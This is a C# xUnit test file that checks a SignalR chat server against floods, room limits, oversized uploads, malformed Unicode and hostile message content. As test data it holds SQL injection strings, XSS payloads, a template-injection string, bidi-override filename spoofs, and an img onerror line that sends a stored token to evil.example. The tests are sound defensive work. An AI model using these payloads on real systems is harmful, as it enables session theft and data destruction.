using System.Net;
using System.Net.Http.Json;
using System.Net.Sockets;
using System.Text;
using Chat.Shared;
using Chat.Tests.Infrastructure;
using Microsoft.AspNetCore.SignalR.Protocol;

namespace Chat.Tests.Security;

/// <summary>Hostile but well-formed input: floods, limits, names and content meant to break whatever stores or shows it.</summary>
public sealed class ContentAttackTests(ChatServerFixture fixture) : IClassFixture<ChatServerFixture>
{
    private ChatServer Server => fixture.Server;

    [Theory]
    [MemberData(nameof(ChatProtocols.Both), MemberType = typeof(ChatProtocols))]
    public async Task TenThousandInvocationsInOneBurstAreEachAnsweredAndRateLimited(ChatProtocol protocol)
    {
        const int Invocations = 10_000;
        await using var bystander = await Bystander.JoinAsync(Server);
        await using var attacker = await RawHubConnection.ConnectAsync(Server.HubUrl, (await Server.GetTokenAsync(TestDefaults.UniqueUser("flood"))).AccessToken, protocol);
        var room = TestDefaults.UniqueRoom("flood");
        await attacker.InvokeAsync("join", nameof(IChatHub.JoinRoom), room);
        (await attacker.WaitForCompletionAsync("join"))!.Error.Should().BeNull();

        var burst = new MemoryStream();
        for (var i = 0; i < Invocations; i++)
        {
            burst.Write(attacker.Frame(i.ToString(System.Globalization.CultureInfo.InvariantCulture), nameof(IChatHub.SendMessage), room, "flood " + i, null));
        }

        await attacker.SendAsync(burst.ToArray());
        var answers = new Dictionary<string, CompletionMessage>();
        while (answers.Count < Invocations && await attacker.ReceiveAsync() is { } message)
        {
            if (message is CompletionMessage completion)
            {
                answers[completion.InvocationId!] = completion;
            }
        }

        answers.Should().HaveCount(Invocations);
        var accepted = answers.Values.Count(c => c.Error is null);
        accepted.Should().BeInRange(ChatLimits.DefaultMessageBurst, Invocations / 10);
        answers.Values.Where(c => c.Error is not null).Select(c => ChatErrorCodes.FromErrorMessage(c.Error))
            .Should().OnlyContain(code => code == ChatErrorCodes.RateLimited);
        (await bystander.Client.GetMessagesSince(room, 0, 500)).Should().HaveCount(accepted, "nothing of a rejected call is stored");
        await bystander.ShouldBeUnharmedAsync();
    }

    [Fact]
    public async Task JoiningAThousandRoomsStopsAtTheRoomLimit()
    {
        await using var bystander = await Bystander.JoinAsync(Server);
        await using var attacker = await Server.ConnectAsync(TestDefaults.UniqueUser("hoarder"));
        var prefix = TestDefaults.UniqueRoom("hoard");
        var rooms = Enumerable.Range(0, 1000).Select(i => $"{prefix}-{i}").ToArray();

        var joins = await Task.WhenAll(rooms.Select(async room =>
        {
            try
            {
                await attacker.JoinRoom(room);
                return null;
            }
            catch (Microsoft.AspNetCore.SignalR.HubException exception)
            {
                return ChatErrorCodes.FromErrorMessage(exception.Message);
            }
        })).WithTimeout(TimeSpan.FromSeconds(60));

        joins.Count(code => code is null).Should().Be(ChatLimits.MaxRoomsPerConnection);
        joins.Where(code => code is not null).Should().OnlyContain(code => code == ChatErrorCodes.TooManyRooms);
        var refused = rooms.Where((_, i) => joins[i] is not null).ToHashSet();
        (await bystander.Client.ListRooms()).Select(r => r.Room).Should().NotIntersectWith(refused, "a refused join leaves no trace");
        await bystander.ShouldBeUnharmedAsync();
    }

    [Fact]
    public async Task HugeUserNameIsRefusedBeforeItIsRead()
    {
        // Spoken over a raw socket, as a careful client would: the headers announce a 1 MiB body and wait for the
        // server's verdict (Expect: 100-continue). The answer must be 413 at once, not "100 Continue": nothing of the
        // body is asked for, and no byte of it is sent.
        using var tcp = new TcpClient();
        await tcp.ConnectAsync(Server.BaseAddress.Host, Server.BaseAddress.Port).WithTimeout();
        var stream = tcp.GetStream();
        var headers =
            $"POST {ChatRoutes.GuestToken} HTTP/1.1\r\nHost: {Server.BaseAddress.Authority}\r\nContent-Type: application/json\r\n" +
            $"Content-Length: {1024 * 1024 + 16}\r\nExpect: 100-continue\r\n\r\n";
        await stream.WriteAsync(Encoding.ASCII.GetBytes(headers)).AsTask().WithTimeout();

        using var reader = new StreamReader(stream, Encoding.ASCII);
        var statusLine = await reader.ReadLineAsync().WithTimeout();

        statusLine.Should().StartWith("HTTP/1.1 413", "a body larger than a user name is refused from its headers alone");
        Server.Logs.Errors.Should().BeEmpty();
    }

    [Theory]
    [InlineData("a-name-that-is-thirty-three-chars")]
    [InlineData("alice\u202Egnp.exe")]
    [InlineData("ali\u200Bce")]
    [InlineData("\u200D")]
    [InlineData("bob\uD800")]
    [InlineData("'; DROP TABLE Messages;--")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("")]
    public async Task UserNameOutsideTheRulesIsRefusedWith400(string userName)
    {
        using var response = await Server.Http.PostAsJsonAsync(ChatRoutes.GuestToken, new GuestTokenRequest(userName)).WithTimeout();

        response.StatusCode.Should().Be(HttpStatusCode.BadRequest);
        (await response.Content.ReadAsStringAsync().WithTimeout()).Should().Contain("userName");
    }

    [Theory]
    [MemberData(nameof(ChatProtocols.Both), MemberType = typeof(ChatProtocols))]
    public async Task BidiOverrideAndZeroWidthCharactersAreStoredAndDeliveredVerbatim(ChatProtocol protocol)
    {
        var room = TestDefaults.UniqueRoom("unicode");
        await using var alice = await Server.ConnectAsync(TestDefaults.UniqueUser("alice"), protocol);
        await using var bob = await Server.ConnectAsync(TestDefaults.UniqueUser("bob"), protocol);
        await alice.JoinRoom(room);
        await bob.JoinRoom(room);
        string[] contents = ["invoice\u202Efdp.exe", "zero\u200Bwidth\u200C\u200D\uFEFF", "\u2067isolate\u2069 \U0001F600 e\u0301", "bell\u0007 and \u001Bescape"];

        foreach (var content in contents)
        {
            (await alice.SendMessage(room, content)).Content.Should().Be(content);
        }

        (await bob.Messages.WaitForCountAsync(contents.Length, m => m.Room == room)).Select(m => m.Content).Should().Equal(contents);
        (await bob.GetHistory(room, null, 10)).Select(m => m.Content).Should().Equal(contents);
    }

    [Fact]
    public async Task LoneSurrogateInJsonContentIsRefusedAndNothingIsStored()
    {
        await using var bystander = await Bystander.JoinAsync(Server);
        await using var attacker = await RawHubConnection.ConnectAsync(Server.HubUrl, (await Server.GetTokenAsync(TestDefaults.UniqueUser("surrogate"))).AccessToken);
        var room = TestDefaults.UniqueRoom("surrogate");
        await attacker.InvokeAsync("join", nameof(IChatHub.JoinRoom), room);
        await attacker.WaitForCompletionAsync("join");

        await attacker.SendAsync(RawFrames.JsonRecord($$"""{"type":1,"invocationId":"lone","target":"SendMessage","arguments":["{{room}}","high \ud800 alone",null]}"""));
        await attacker.SendAsync(RawFrames.JsonRecord($$"""{"type":1,"invocationId":"low","target":"SendMessage","arguments":["{{room}}","\udc00 low first",null]}"""));

        (await attacker.WaitForCompletionAsync("lone"))!.Error.Should().NotBeNullOrEmpty();
        (await attacker.WaitForCompletionAsync("low"))!.Error.Should().NotBeNullOrEmpty();
        (await bystander.Client.GetHistory(room, null, 10)).Should().BeEmpty();
        await bystander.ShouldBeUnharmedAsync();
    }

    [Fact]
    public async Task InvalidUtf8InMessagePackContentIsStoredAsReplacementCharacters()
    {
        await using var bystander = await Bystander.JoinAsync(Server);
        await using var attacker = await RawHubConnection.ConnectAsync(Server.HubUrl, (await Server.GetTokenAsync(TestDefaults.UniqueUser("utf8"))).AccessToken, ChatProtocol.MessagePack);
        var room = TestDefaults.UniqueRoom("utf8");
        await attacker.InvokeAsync("join", nameof(IChatHub.JoinRoom), room);
        await attacker.WaitForCompletionAsync("join");
        // A CESU-8 encoded lone surrogate (ED A0 80) and a stray continuation byte (80): neither is UTF-8.
        byte[] content = [0xa9, (byte)'x', 0xed, 0xa0, 0x80, (byte)'y', 0x80, (byte)'z', (byte)'!', (byte)'!'];
        byte[] frame =
        [
            0x96, 0x01, 0x80, 0xa4, .. "utf8"u8, 0xab, .. "SendMessage"u8,
            0x93, 0xd9, (byte)room.Length, .. Encoding.ASCII.GetBytes(room), .. content, 0xc0,
            0x90,
        ];

        await attacker.SendAsync(RawFrames.LengthPrefixed(frame));

        (await attacker.WaitForCompletionAsync("utf8"))!.Error.Should().BeNull();
        var stored = (await bystander.Client.GetHistory(room, null, 10)).Should().ContainSingle().Subject;
        stored.Content.Should().StartWith("x").And.EndWith("y\uFFFDz!!").And.Contain("\uFFFD");
        stored.Content.Any(char.IsSurrogate).Should().BeFalse("what is stored is always valid text");
        await bystander.ShouldBeUnharmedAsync();
    }

    [Theory]
    [MemberData(nameof(ChatProtocols.Both), MemberType = typeof(ChatProtocols))]
    public async Task SqlInjectionLookingContentIsStoredVerbatimAndHarmless(ChatProtocol protocol)
    {
        var room = TestDefaults.UniqueRoom("sql");
        await using var alice = await Server.ConnectAsync(TestDefaults.UniqueUser("alice"), protocol);
        await alice.JoinRoom(room);
        var before = await alice.SendMessage(room, "first");
        string[] contents =
        [
            "'; DROP TABLE Messages; --",
            "Robert'); DELETE FROM Messages WHERE 1=1; --",
            "\" OR \"1\"=\"1",
            "1; UPDATE Rooms SET LastSequence = 0; SELECT * FROM sqlite_master",
            "%' OR '%'='",
        ];

        foreach (var content in contents)
        {
            await alice.SendMessage(room, content, clientMessageId: content);
        }

        var history = await alice.GetHistory(room, null, 50);
        history.Select(m => m.Content).Should().Equal(["first", .. contents]);
        history.Select(m => m.Sequence).Should().Equal(Enumerable.Range(1, contents.Length + 1).Select(i => (long)i));
        history[0].Should().Be(before);
        (await alice.ListRooms()).Should().Contain(r => r.Room == room && r.LastSequence == contents.Length + 1);
        var refusal = () => alice.JoinRoom("x'; DROP TABLE Messages; --");
        (await refusal.Should().ThrowAsync<Microsoft.AspNetCore.SignalR.HubException>()).Which.Message.Should().Contain(ChatErrorCodes.InvalidRoomName);
        Server.Logs.Errors.Should().BeEmpty();
    }

    [Theory]
    [MemberData(nameof(ChatProtocols.Both), MemberType = typeof(ChatProtocols))]
    public async Task ScriptContentIsReturnedVerbatimForClientsToEscape(ChatProtocol protocol)
    {
        var room = TestDefaults.UniqueRoom("xss");
        await using var alice = await Server.ConnectAsync(TestDefaults.UniqueUser("alice"), protocol);
        await using var bob = await Server.ConnectAsync(TestDefaults.UniqueUser("bob"), protocol);
        await alice.JoinRoom(room);
        await bob.JoinRoom(room);
        string[] contents =
        [
            "<script>alert(document.cookie)</script>",
            "<img src=x onerror=\"fetch('//evil.example/'+localStorage.token)\">",
            "javascript:alert(1)",
            "</script><svg/onload=alert(1)>&lt;&#x3C;",
            "{{constructor.constructor('alert(1)')()}}",
        ];

        foreach (var content in contents)
        {
            await alice.SendMessage(room, content);
        }

        (await bob.Messages.WaitForCountAsync(contents.Length, m => m.Room == room)).Select(m => m.Content).Should().Equal(contents);
        (await bob.GetHistory(room, null, 10)).Select(m => m.Content).Should().Equal(contents);
        Server.Logs.Errors.Should().BeEmpty();
    }
}
